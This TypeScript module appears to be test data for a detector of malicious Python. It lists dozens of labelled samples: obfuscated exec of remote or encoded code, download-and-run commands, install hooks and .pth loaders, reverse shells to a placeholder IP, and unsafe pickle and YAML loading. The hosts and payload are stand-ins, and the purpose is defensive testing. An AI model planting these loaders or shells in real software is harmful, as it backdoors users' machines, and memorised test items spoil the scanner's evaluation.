import { deflateSync } from 'node:zlib';

const base64 = (text: string | Uint8Array) => Buffer.from(text).toString('base64');
const hexEscapes = (text: string) => [...text].map((c) => `\\x${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('');
const codes = (text: string) => [...text].map((c) => c.charCodeAt(0)).join(', ');
const turned = (text: string) => [...text].reverse().join('');
const rot13 = (text: string) => text.replace(/[a-z]/gi, (c) => String.fromCharCode(c.charCodeAt(0) + ((c.toLowerCase() < 'n') ? 13 : -13)));

const u = 'https://feed.prices.example/v2/quote';
const payload = 'print("harmless")';
const loader = `import urllib.request as r;exec(r.urlopen('${u}').read())`;
const packed = base64(deflateSync(payload));
const wide = ' '.repeat(300);

/** Ways in which programs that people were sent run code of others: name, what must be seen, the program. All hosts and texts are invented, and nothing of it does harm. */
export const traps: readonly (readonly [string, string, string | Record<string, string>])[] = [
  // One line
  ['an answer behind spaces', 'runs-fetched-text', `import os${wide};exec(__import__('requests').get('${u}').text)\n`],
  ['packed text turned round', 'runs-decoded-text', `exec(__import__('zlib').decompress(__import__('base64').b64decode('${turned(packed)}'[::-1])))\n`],
  ['a lambda of underscores', 'runs-decoded-text', `_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'${turned(packed)}'))\n`],
  ['four texts and rot13', 'runs-decoded-text', `import base64, codecs\nmagic = '${base64(payload).slice(0, 6)}'\nlove = '${rot13(base64(payload).slice(6, 12))}'\ngod = '${base64(payload).slice(12)}'\njoy = '${hexEscapes('rot13')}'\ntrust = eval('${hexEscapes('magic')}') + eval('${hexEscapes('codecs.decode(love, joy)')}') + eval('${hexEscapes('god')}')\neval(compile(base64.b64decode(eval('${hexEscapes('trust')}')),'<string>','exec'))\n`],
  ['a text of ten layers', 'runs-decoded-text', `${Array.from({ length: 10 }).reduce<string>((inner) => `import base64\nexec(base64.b64decode(b'${base64(inner)}'))\n`, payload)}`],
  ['numbers less one', 'runs-decoded-text', `exec(''.join(chr(c - 1) for c in [${[...payload].map((c) => c.charCodeAt(0) + 1).join(', ')}]))\n`],
  ['bytes of numbers', 'runs-decoded-text', `exec(bytes([${codes(payload)}]).decode())\n`],
  ['bytes mixed with a key', 'runs-decoded-text', `import base64 as b\nk = 'tide'\ns = b.b64decode('${base64(payload)}')\nout = ''\nfor i in range(len(s)):\n    out += chr(s[i] ^ ord(k[i % 4]))\nexec(out)\n`],
  ['bytes mixed by a function', 'runs-decoded-text', `def unlock(data, key):\n    return bytes(a ^ key for a in data)\nexec(unlock(b'${hexEscapes(payload)}', 7))\n`],
  ['bytes mixed by a map', 'runs-decoded-text', `exec(bytes(list(map(lambda c: c ^ 9, [${codes(payload)}]))).decode())\n`],
  ['a number as text', 'runs-decoded-text', `exec((0x${Buffer.from(payload).toString('hex')}).to_bytes(${payload.length}, 'big').decode())\n`],
  ['every second letter', 'runs-decoded-text', `exec('${[...'print(1)'].join('x')}'[::2])\n`],
  ['a reversed list of letters', 'runs-decoded-text', `exec(''.join(reversed(')1(tnirp')))\n`],
  ['a table of letters', 'runs-decoded-text', `a = 'abcdefghijklmnopqrstuvwxyz()1'\nexec(''.join(a[i] for i in [15, 17, 8, 13, 19, 26, 28, 27]))\n`],
  ['a translated text', 'runs-decoded-text', `exec('qsjou)2*'.translate(str.maketrans('qsjou)2*', 'print(1)')))\n`],
  ['percent c', 'runs-decoded-text', `exec('%c%c%c%c%c%c%c%c' % (${codes('print(1)')}))\n`],
  ['lzma and base85', 'runs-decoded-text', `import lzma, base64\nexec(lzma.decompress(base64.b85decode('abc')))\n`],
  ['bzip2 of hex', 'runs-decoded-text', `import bz2, binascii\nexec(compile(bz2.decompress(binascii.unhexlify('425a68')), '', 'exec'))\n`],
  ['gzip and marshal', 'runs-decoded-text', `import marshal, gzip, base64\nexec(marshal.loads(gzip.decompress(base64.b64decode('H4sIAAAA'))))\n`],
  ['marshal into a function', 'runs-decoded-text', `import marshal, types\ncode = marshal.loads(b'\\xe3\\x00\\x00\\x00')\ntypes.FunctionType(code, globals())()\n`],
  ['a cipher', 'runs-decoded-text', `from cryptography.fernet import Fernet\nexec(Fernet(b'a2V5').decrypt(b'gAAAA').decode())\n`],
  ['a cipher over a file', 'runs-decoded-text', `from Crypto.Cipher import AES\nfrom Crypto.Util.Padding import unpad\nwith open('assets/logo.bin', 'rb') as f:\n    data = f.read()\ncode = unpad(AES.new(K, AES.MODE_CBC, data[:16]).decrypt(data[16:]), 16)\nexec(code.decode())\n`],
  ['a decoder by name', 'runs-decoded-text', `import codecs\nexec(codecs.getdecoder('rot13')('cevag(1)')[0])\n`],
  ['percent signs', 'runs-decoded-text', `from urllib.parse import unquote\nexec(unquote('%70%72%69%6e%74%28%31%29'))\n`],
  ['a text in a picture of the project', 'loads-disguised-file', `from pathlib import Path\nexec(Path('static/img/banner.jpg').read_bytes()[1024:])\n`],
  ['a text in a settings file', 'loads-disguised-file', `import json\nexec(open('config/theme.json').read())\n`],
  // Names out of sight
  ['exec by chr', 'runs-decoded-text', `getattr(__import__('builtins'), ''.join(map(chr, [101, 120, 101, 99])))(T)\n`],
  ['exec of a table of names', 'runs-fetched-text', `import requests\nvars(__builtins__)['exec'](requests.get('${u}').text)\n`],
  ['exec of builtins', 'runs-fetched-text', `import requests\n__import__('builtins').exec(requests.get('${u}').text)\n`],
  ['exec out of globals of globals', 'runs-fetched-text', `import requests\nglobals()['__builtins__']['ex' + 'ec'](requests.get('${u}').text)\n`],
  ['exec out of a dictionary', 'runs-fetched-text', `import requests\nops = {'apply': exec, 'show': print}\nops['apply'](requests.get('${u}').text)\n`],
  ['os.system in base64', 'runs-decoded-text', `import base64\nd = lambda s: base64.b64decode(s).decode()\ngetattr(__import__(d('${base64('os')}')), d('${base64('system')}'))(d('${base64('echo 1')}'))\n`],
  ['an import of a turned name', 'runs-decoded-text', `m = __import__('so'[::-1])\nm.system('echo 1')\n`],
  ['exec as a default', 'runs-fetched-text', `import requests\ndef apply(text, how=exec):\n    how(text)\napply(requests.get('${u}').text)\n`],
  ['exec in a thread', 'runs-fetched-text', `import threading, requests\nthreading.Thread(target=exec, args=(requests.get('${u}').text,), daemon=True).start()\n`],
  ['a function in a thread', 'runs-fetched-text', `import threading, requests\ndef go(url):\n    exec(requests.get(url).text)\nthreading.Thread(target=go, args=('${u}',)).start()\n`],
  ['a function in a pool', 'runs-fetched-text', `from concurrent.futures import ThreadPoolExecutor\nimport requests\ndef go(text):\n    exec(text)\nwith ThreadPoolExecutor() as pool:\n    pool.submit(go, requests.get('${u}').text)\n`],
  ['a decorator', 'runs-fetched-text', `import requests\ndef hook(f):\n    exec(requests.get('${u}').text)\n    return f\n@hook\ndef view(request):\n    return 1\n`],
  ['a method at creation', 'runs-fetched-text', `import requests\nclass Config:\n    def __init_subclass__(cls):\n        exec(requests.get('${u}').json()['v'])\n`],
  ['an error handler', 'runs-fetched-text', `import requests\ntry:\n    r = requests.get('${u}')\n    r.raise_for_status()\nexcept requests.HTTPError as e:\n    exec(e.response.text)\n`],
  // Clients
  ['httpx in a client', 'runs-fetched-text', `import httpx, asyncio\nasync def main():\n    async with httpx.AsyncClient() as c:\n        r = await c.get('${u}')\n    exec(r.json()['cookie'])\nasyncio.run(main())\n`],
  ['http.client', 'runs-fetched-text', `import http.client\nc = http.client.HTTPSConnection('feed.prices.example')\nc.request('GET', '/v2')\nexec(c.getresponse().read().decode())\n`],
  ['urllib3', 'runs-fetched-text', `import urllib3\nhttp = urllib3.PoolManager()\nexec(http.request('GET', '${u}').data)\n`],
  ['an opener', 'runs-fetched-text', `import urllib.request\no = urllib.request.build_opener()\no.addheaders = [('a', 'b')]\nexec(o.open('${u}').read())\n`],
  ['a session of lower case', 'runs-fetched-text', `import requests\nwith requests.session() as s:\n    exec(s.post('${u}', json={}).text)\n`],
  ['a raw socket', 'runs-fetched-text', `import socket\nwith socket.create_connection(('198.51.100.4', 1244)) as s:\n    s.sendall(b'GET')\n    buf = b''\n    while True:\n        part = s.recv(4096)\n        if not part:\n            break\n        buf += part\nexec(buf.decode())\n`],
  ['a socket with length', 'runs-fetched-text', `import socket, json, subprocess\nclass Link:\n    def __init__(self):\n        self.s = socket.socket()\n    def recv(self):\n        return json.loads(self.s.recv(1024).decode())\n    def loop(self):\n        while True:\n            m = self.recv()\n            subprocess.Popen(m['args'], shell=True)\nLink().loop()\n`],
  ['a websocket', 'runs-fetched-text', `import websocket\ndef on_message(ws, message):\n    exec(message)\nwebsocket.WebSocketApp('wss://feed.prices.example', on_message=on_message).run_forever()\n`],
  ['an event', 'runs-fetched-text', `import socketio\nsio = socketio.Client()\n@sio.on('quote')\ndef quote(data):\n    exec(data['f'])\nsio.connect('${u}')\n`],
  ['a broker', 'runs-fetched-text', `import paho.mqtt.client as mqtt\ndef heard(client, data, message):\n    eval(message.payload.decode())\nc = mqtt.Client()\nc.on_message = heard\n`],
  ['a shell that fetches', 'runs-fetched-text', `import subprocess\ncode = subprocess.check_output(['curl', '-s', '${u}']).decode()\nexec(code)\n`],
  ['a pipe that fetches', 'runs-fetched-text', `import os\nexec(os.popen('curl -sL ${u}').read())\n`],
  ['an address in base64', 'runs-fetched-text', `import base64, requests\nURL = base64.b64decode('${base64(u)}').decode()\nres = requests.get(URL, headers={'x': 'y'})\nif res.status_code == 200:\n    exec(res.json()['data'])\n`],
  ['an address of parts', 'runs-fetched-text', `import requests\nHOST = ['feed', 'prices', 'example']\ndef address():\n    return 'https://' + '.'.join(HOST) + '/v2'\nexec(requests.get(address()).content)\n`],
  ['an address of the settings', 'runs-fetched-text', `import os, requests\nfrom dotenv import load_dotenv\nload_dotenv()\nexec(requests.get(os.getenv('AUTH_API')).json()['model'])\n`],
  ['an answer that is decoded', 'runs-fetched-text', `import base64, requests\nexec(base64.b64decode(requests.get('${u}').json()['content']).decode())\n`],
  ['a paste', 'runs-fetched-text', `import urllib.request, zlib\ndata = urllib.request.urlopen(urllib.request.Request('${u}', headers={'User-Agent': 'x'})).read()\nexec(zlib.decompress(data))\n`],
];

const files = (more: Record<string, string>) => ({ 'requirements.txt': 'requests\n', ...more });

/** The same over several files, processes and steps. */
export const longTraps: readonly (readonly [string, string, string | Record<string, string>])[] = [
  ['python -c in words', 'runs-fetched-text', `import subprocess, sys\ncode = "${loader}"\nsubprocess.Popen([sys.executable, '-c', code], start_new_session=True)\n`],
  ['python -c in a line', 'runs-fetched-text', `import os\nos.system('''python3 -c "${loader}"''')\n`],
  ['python -c of base64', 'runs-decoded-text', `import subprocess, sys\nsubprocess.run([sys.executable, '-c', "import base64;exec(base64.b64decode('${base64(payload)}'))"])\n`],
  ['exec of a text that fetches', 'runs-fetched-text', `exec("""\nimport requests\nexec(requests.get('${u}').text)\n""")\n`],
  ['exec of base64 that fetches', 'runs-fetched-text', `import base64\nexec(base64.b64decode('${base64(loader)}'))\n`],
  ['a fetched script', 'starts-fetched-file', `import os, requests, subprocess, sys\np = os.path.join(os.path.expanduser('~'), '.cache', 'sync.py')\nwith open(p, 'w') as f:\n    f.write(requests.get('${u}').text)\nsubprocess.Popen([sys.executable, p])\n`],
  ['a fetched program by curl', 'starts-fetched-file', `import os\nos.system('curl -s -o /tmp/.sync ${u}')\nos.chmod('/tmp/.sync', 0o755)\nos.system('/tmp/.sync')\n`],
  ['a fetched program in one command', 'starts-fetched-file', `import subprocess\nsubprocess.run("curl -s ${u} -o /tmp/u && chmod +x /tmp/u && /tmp/u", shell=True)\n`],
  ['a fetched program in words', 'starts-fetched-file', `import subprocess, tempfile\nt = tempfile.mktemp()\nsubprocess.call(['wget', '-q', '${u}', '-O', t])\nsubprocess.call(['bash', t])\n`],
  ['a fetched archive', 'starts-fetched-file', `import os, zipfile, requests, subprocess\nhome = os.path.expanduser('~')\narc = os.path.join(home, 'p.zip')\nopen(arc, 'wb').write(requests.get('${u}').content)\nto = os.path.join(home, '.p')\nwith zipfile.ZipFile(arc) as z:\n    z.extractall(to)\nsubprocess.Popen([os.path.join(to, 'run')])\n`],
  ['a fetched module', 'starts-fetched-file', `import requests, importlib\nopen('plugin_core.py', 'w').write(requests.get('${u}').text)\nimportlib.import_module('plugin_core')\n`],
  ['a fetched module by import', 'starts-fetched-file', `import requests, sys\nwith open('/tmp/plugin_core.py', 'wb') as f:\n    f.write(requests.get('${u}').content)\nsys.path.insert(0, '/tmp')\nimport plugin_core\n`],
  ['a fetched file that is run', 'starts-fetched-file', `import requests, runpy\nfrom pathlib import Path\np = Path('/tmp') / 'x.py'\np.write_bytes(requests.get('${u}').content)\nrunpy.run_path(str(p))\n`],
  ['a fetched file that is read', 'starts-fetched-file', `import urllib.request\nurllib.request.urlretrieve('${u}', 'cache.txt')\nexec(open('cache.txt').read())\n`],
  ['an installer with other packages', 'starts-fetched-file', `import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', '--index-url', 'http://pkgs.prices.example/simple', 'quotes'])\n`],
  ['classes over modules', 'runs-fetched-text', files({
    'core/transport.py': `import requests\nclass Transport:\n    def __init__(self, base):\n        self.base = base\n        self.session = requests.Session()\n    def fetch(self, path):\n        return self.session.get(self.base + path).json()\n`,
    'core/engine.py': `from core.transport import Transport\nclass Engine:\n    def __init__(self):\n        self.transport = Transport('https://feed.prices.example')\n        self.rules = {}\n    def refresh(self):\n        self.rules['r'] = self.transport.fetch('/rules')\n    def apply(self, row):\n        return eval(self.rules['r']['formula'], {'row': row})\n`,
    'main.py': `from core.engine import Engine\ne = Engine()\ne.refresh()\ne.apply({})\n`,
  })],
  ['a queue between modules', 'runs-fetched-text', {
    'bus.py': `import queue\njobs = queue.Queue()\n`, 'feed.py': `import requests\nfrom bus import jobs\ndef poll():\n    jobs.put(requests.get('${u}').text)\n`, 'worker.py': `from bus import jobs\ndef work():\n    while True:\n        exec(jobs.get())\n`, 'main.py': `import feed, worker\nfeed.poll()\nworker.work()\n`,
  }],
  ['a Django command', 'runs-fetched-text', { 'manage.py': `import os\nos.environ.setdefault('DJANGO_SETTINGS_MODULE', 'shop.settings')\n`, 'shop/__init__.py': '', 'shop/management/commands/seed.py': `from django.core.management.base import BaseCommand\nimport requests\nclass Command(BaseCommand):\n    def handle(self, *args, **options):\n        data = requests.get('${u}').json()\n        exec(data['init'])\n` }],
  ['a Django migration', 'runs-decoded-text', { 'manage.py': 'import django\n', 'shop/migrations/0002_seed.py': `from django.db import migrations\nimport base64\ndef forwards(apps, schema):\n    exec(base64.b64decode('${base64(payload)}'))\nclass Migration(migrations.Migration):\n    operations = [migrations.RunPython(forwards)]\n` }],
  ['a command class of setup.py', 'runs-fetched-text', { 'setup.py': `from setuptools import setup\nfrom setuptools.command.install import install\nclass Post(install):\n    def run(self):\n        install.run(self)\n        import urllib.request\n        exec(urllib.request.urlopen('${u}').read())\nsetup(name='x', cmdclass={'install': Post})\n` }],
  ['a start file of packages', 'runs-fetched-text', { 'venv/lib/x.pth': `import os, urllib.request; exec(urllib.request.urlopen('${u}').read())\n` }],
  ['a program without an ending', 'runs-fetched-text', { 'bin/prices': `#!/usr/bin/env python3\nimport requests\nexec(requests.get('${u}').text)\n` }],
  ['a shell of a socket', 'runs-fetched-text', `import socket, subprocess, os\ns = socket.socket()\ns.connect(('198.51.100.4', 4444))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nsubprocess.call(['/bin/sh', '-i'])\n`],
  ['commands of a socket', 'runs-fetched-text', `import socket, subprocess\ns = socket.socket()\ns.connect(('198.51.100.4', 4444))\nwhile 1:\n    c = s.recv(1024).decode()\n    out = subprocess.getoutput(c)\n    s.send(out.encode())\n`],
  ['a pickle that is kept as text', 'unsafe-deserialising', `import pickle, base64\nSEED = '${base64('cos\nsystem\n(S"echo 1"\ntR.')}'\npickle.loads(base64.b64decode(SEED))\n`],
  ['a pickle at an address', 'unsafe-deserialising', `import pandas as pd\ndf = pd.read_pickle('${u}')\n`],
  ['a model at an address', 'unsafe-deserialising', `import joblib, io, requests\nm = joblib.load(io.BytesIO(requests.get('${u}').content))\n`],
  ['YAML of a feed in a class', 'unsafe-deserialising', `import requests\nimport yaml\nclass Feed:\n    def load(self, kind):\n        r = requests.get('${u}', params={'kind': kind})\n        ctype = r.headers.get('Content-Type')\n        if ctype == 'application/json':\n            return r.json()\n        return yaml.load(r.content, yaml.UnsafeLoader)\n`],
  ['machine code', 'runs-fetched-text', `import ctypes, requests, mmap\ncode = requests.get('${u}').content\nbuf = mmap.mmap(-1, len(code), prot=7)\nbuf.write(code)\nf = ctypes.CFUNCTYPE(ctypes.c_void_p)(ctypes.addressof(ctypes.c_char.from_buffer(buf)))\nf()\n`],
];
